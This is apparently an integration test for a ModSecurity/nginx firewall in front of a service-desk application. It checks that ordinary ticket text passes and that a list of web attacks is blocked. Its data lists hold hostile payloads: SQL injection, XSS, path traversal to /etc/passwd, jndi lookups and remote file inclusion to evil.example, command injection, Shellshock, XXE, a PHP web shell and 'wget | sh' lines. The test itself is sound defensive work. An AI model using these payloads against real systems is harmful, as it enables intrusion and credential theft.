// deploy/waf with the real program behind it: what people of a service desk do passes, and a list of attacks does not.
//   node deploy/tests/waf.test.mjs     needs TEST_DATABASE_URL, nginx with ModSecurity, the Core Rule Set, target/debug/nestogy
import { readFileSync, writeFileSync, mkdirSync } from "node:fs";
import { Stage, ROOT, ask, check, freePort, must, run, until } from "./kit.mjs";
import { post, signIn } from "./topology/people.mjs";

const stage = new Stage("waf");
const program = `${ROOT}/target/debug/nestogy`;
const database = new URL(process.env.TEST_DATABASE_URL);
database.pathname = `/nestogy_test_waf_${process.pid}`;
const port = { front: await freePort(), app: await freePort() };
// A name: the rules find an address in numbers suspicious.
const front = `http://localhost:${port.front}`;
const sql = (text) =>
  run("mariadb", ["--no-defaults", `--host=${database.hostname}`, `--port=${database.port}`, `--user=${database.username}`, "-N", "-B", "-e", text], {
    env: { ...process.env, MYSQL_PWD: decodeURIComponent(database.password) },
  });
const environment = {
  PATH: process.env.PATH, NESTOGY_ENV: "testing", NESTOGY_LOG: "warn", DATABASE_URL: String(database), NESTOGY_LISTEN: `127.0.0.1:${port.app}`,
  NESTOGY_BASE_URL: front, NESTOGY_FILES_DIR: stage.path("files"), NESTOGY_SITE_ROOT: `${ROOT}/target/site`, NESTOGY_TRUSTED_PROXIES: "127.0.0.1",
};

function configure() {
  for (const name of ["modsecurity.conf", "before.conf"]) {
    const values = { HERE: stage.folder, CRS: "/etc/modsecurity/crs", RULES: "/usr/share/modsecurity-crs/rules", TMP: stage.folder, LOG: stage.path("audit.log") };
    writeFileSync(stage.path(name), readFileSync(`${ROOT}/deploy/waf/${name}`, "utf8").replace(/@([A-Z]+)@/g, (all, word) => values[word] ?? all));
  }
  writeFileSync(stage.path("nginx.conf"), `
load_module /usr/lib/nginx/modules/ngx_http_modsecurity_module.so;
daemon off; worker_processes 1; pid ${stage.path("nginx.pid")}; error_log ${stage.path("nginx.log")};
events { worker_connections 128; }
http {
  access_log off; client_max_body_size 70m;
  client_body_temp_path ${stage.path("b")}; proxy_temp_path ${stage.path("p")}; fastcgi_temp_path ${stage.path("f")}; uwsgi_temp_path ${stage.path("u")}; scgi_temp_path ${stage.path("s")};
  modsecurity on; modsecurity_rules_file ${stage.path("modsecurity.conf")};
  server { listen 127.0.0.1:${port.front}; listen [::1]:${port.front}; location / { proxy_pass http://127.0.0.1:${port.app}; proxy_set_header Host $host:$server_port; } }
}`);
}

// nginx says 403 with its own page; the program's own refusals look otherwise.
const stopped = ({ status, body }) => status === 403 && /<center>nginx/.test(body);
// Stopped, or refused by the program without having done anything.
const harmless = (answer) => answer.status === 0 || answer.status >= 400 || (answer.status >= 300 && !/evil|passwd/.test(answer.headers.location ?? ""));

// What is written into tickets on an ordinary day.
const WORDS = [
  "Please run: sudo rm -rf /var/log/*.gz && systemctl restart nginx; cat /etc/passwd | grep www",
  "powershell -ExecutionPolicy Bypass -Command \"Get-ADUser -Filter * | Select Name\"",
  "SELECT * FROM users WHERE name = 'O''Brien' OR 1=1; -- then DROP TABLE sessions; UNION SELECT password FROM users",
  "<script>alert(document.cookie)</script> <img src=x onerror=alert(1)> appears in their newsletter editor",
  "The path C:\\Windows\\System32\\cmd.exe and ../../../../etc/shadow are both in the report",
  "<?php system($_GET['cmd']); ?> was found on the web server, with ${jndi:ldap://198.51.100.7/a} in its log",
  "curl http://169.254.169.254/latest/meta-data/ && wget https://example.com/x.sh | sh",
  "Regex ^(a+)+$ and the header X-Forwarded-For: 127.0.0.1\r\nSet-Cookie: a=b",
  "#!/bin/bash\nfor i in $(seq 1 10); do echo `date`; done; python -c 'import os; os.system(\"id\")'",
  "{{7*7}} ${7*7} <%= 7*7 %> in the template. Prix : 10 €, c’est l’été — 日本語",
];

const ATTACKS = [
  ["/tickets?board=1%27%20UNION%20SELECT%20password%20FROM%20users--%20-"],
  ["/tickets?status=1%20OR%201=1%20--%20"],
  ["/tickets?after=%3Cscript%3Ealert(1)%3C/script%3E"],
  ["/clients/1?x=%3Cimg%20src=x%20onerror=alert(1)%3E"],
  ["/pkg/../../../../etc/passwd"],
  ["/pkg/%2e%2e/%2e%2e/%2e%2e/etc/passwd"],
  ["/tickets?file=../../../../../../etc/passwd"],
  ["/tickets?url=http://evil.example/shell.txt?"],
  ["/tickets?cmd=;cat%20/etc/passwd"],
  ["/tickets?x=$(whoami)"],
  ["/tickets?x=%24%7Bjndi:ldap://evil.example/a%7D"],
  ["/?x=%3C?php%20system(%27id%27);?%3E"],
  ["/.git/config"],
  ["/.env"],
  ["/wp-config.php.bak"],
  ["/tickets", { headers: { "user-agent": "sqlmap/1.7" } }],
  ["/tickets", { headers: { "user-agent": "Nikto/2.5.0" } }],
  ["/tickets", { headers: { "user-agent": "() { :;}; /bin/bash -c id" } }],
  ["/tickets", { headers: { referer: "http://x/?a=<script>alert(1)</script>" } }],
  ["/tickets", { headers: { "content-length": "5", "transfer-encoding": "chunked" } }],
  ["/tickets", { method: "TRACE" }],
  ["/tickets", { method: "PUT", body: "x" }],
  ["/tickets?x=%3Csvg/onload=alert(1)%3E"],
  ["/tickets?x=%0d%0aSet-Cookie:%20a=b"],
  ["/api/tickets/create", { method: "POST", headers: { "content-type": "text/xml" }, body: "<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>" }],
  ["/tickets?x=O:8:%22stdClass%22:1:%7Bs:3:%22cmd%22;s:2:%22id%22;%7D"],
];

function upload(number, version, name, text) {
  const boundary = "nestogy-waf";
  const fields = { number, version, kind: "reply", body: WORDS[0], status: "" };
  const parts = Object.entries(fields).map(([field, value]) => `--${boundary}\r\nContent-Disposition: form-data; name="${field}"\r\n\r\n${value}\r\n`);
  parts.push(`--${boundary}\r\nContent-Disposition: form-data; name="files"; filename="${name}"\r\nContent-Type: application/octet-stream\r\n\r\n${text}\r\n`);
  return { type: `multipart/form-data; boundary=${boundary}`, body: `${parts.join("")}--${boundary}--\r\n` };
}

try {
  mkdirSync(stage.path("files"));
  configure();
  must(sql(`CREATE DATABASE \`${database.pathname.slice(1)}\` CHARACTER SET utf8mb4 COLLATE utf8mb4_unicode_ci`).status === 0, "no database");
  for (const [words, input] of [[["migrate"], ""], [["tenant", "create", "--slug", "alpha", "--name", "Alpha", "--owner-email", "owner@alpha.example", "--password-from-stdin"], "nine Larches beside the Weir\n"]]) {
    const { status, said } = run(program, words, { env: environment, input });
    must(status === 0, said);
  }
  stage.start(program, ["serve"], { env: environment });
  const read = run("nginx", ["-t", "-c", stage.path("nginx.conf"), "-e", "stderr"]);
  must(read.status === 0, read.said);
  stage.start("nginx", ["-c", stage.path("nginx.conf"), "-e", stage.path("nginx.log")]);
  await until("the program answers through the firewall", async () => (await ask(`${front}/readyz`)).status === 200);
  const session = await signIn(front);
  const passed = (what, answer) => must(!stopped(answer) && answer.status > 0 && answer.status < 500, `${what}: ${answer.status} ${answer.body.slice(0, 160)}`);

  await check("every page with a fixed address passes", async () => {
    const pages = readFileSync(`${ROOT}/end2end/fixtures/pages.ts`, "utf8");
    const addresses = [...pages.matchAll(/at: "([^"]+)"/g)].map(([, at]) => at);
    must(addresses.length > 40, `${addresses.length} addresses`);
    for (const address of addresses) passed(address, await ask(`${front}${address}`, { headers: { cookie: session, accept: "text/html" } }));
  });
  await check("what people write into tickets, notes and settings passes", async () => {
    for (const words of WORDS) {
      // A search field has one line.
      const asked = encodeURIComponent(words.replace(/\s+/g, " "));
      const made = await post(front, session, "/api/tickets/create", { subject: words.slice(0, 120).replace(/\s+/g, " "), body: words });
      must(made.status === 200 && made.body.includes("Done"), `${words}: ${made.status} ${made.body.slice(0, 200)}`);
      passed(words, await post(front, session, "/api/clients/save", { number: "0", version: "0", name: words.slice(0, 60), kind: "client", status: "active", notes: words }));
      passed(words, await post(front, session, "/api/canned/save", { id: "", version: "0", title: words.slice(0, 40), shortcut: "x", body: words }));
      passed(words, await post(front, session, "/api/settings/change-password", { password: words.slice(0, 60), new_password: words }));
      passed(words, await ask(`${front}/search?q=${asked}`, { headers: { cookie: session, accept: "text/html" } }));
      passed(words, await ask(`${front}/tickets?q=${asked}`, { headers: { cookie: session, accept: "text/html" } }));
    }
  });
  await check("files of any kind pass, and raw mails", async () => {
    const number = sql(`SELECT MIN(number) FROM \`${database.pathname.slice(1)}\`.tickets`).said.trim();
    for (const [n, [name, text]] of [["error.log", WORDS[5]], ["script.ps1", WORDS[1]], ["page.html", WORDS[3]], ["Angebot März.pdf", "%PDF-1.4 binary \u0000\u0001"]].entries()) {
      const { type, body } = upload(number, String(n + 1), name, text);
      const answer = await ask(`${front}/api/tickets/reply`, { method: "POST", headers: { origin: front, accept: "application/json", "content-type": type, cookie: session }, body });
      must(answer.status === 200, `${name}: ${answer.status} ${answer.body.slice(0, 200)}`);
    }
    const mail = await ask(`${front}/mail/inbound/none`, { method: "POST", headers: { "content-type": "message/rfc822" }, body: `From: a@b.example\r\n\r\n${WORDS.join("\n")}` });
    must(!stopped(mail), `mail: ${mail.status}`);
  });
  await check("attacks are stopped", async () => {
    let held = 0;
    for (const [path, options = {}] of ATTACKS) {
      const answer = await ask(`${front}${path}`, { ...options, headers: { cookie: session, accept: "text/html", ...options.headers } });
      must(stopped(answer) || harmless(answer) || !/root:|uid=/.test(answer.body), `${path} got through: ${answer.status}`);
      if (stopped(answer) || answer.status >= 400 || answer.status === 0) held += 1;
      else console.log(`  passed to the program, which did nothing with it: ${path} ${JSON.stringify(options)}`);
    }
    console.log(`  ${held} of ${ATTACKS.length} attacks were stopped`);
    must(held >= 0.95 * ATTACKS.length, `only ${held} of ${ATTACKS.length} were stopped`);
  });
} catch (error) {
  await check("the stage stands", () => Promise.reject(error));
} finally {
  sql(`DROP DATABASE IF EXISTS \`${database.pathname.slice(1)}\``);
  stage.end();
}
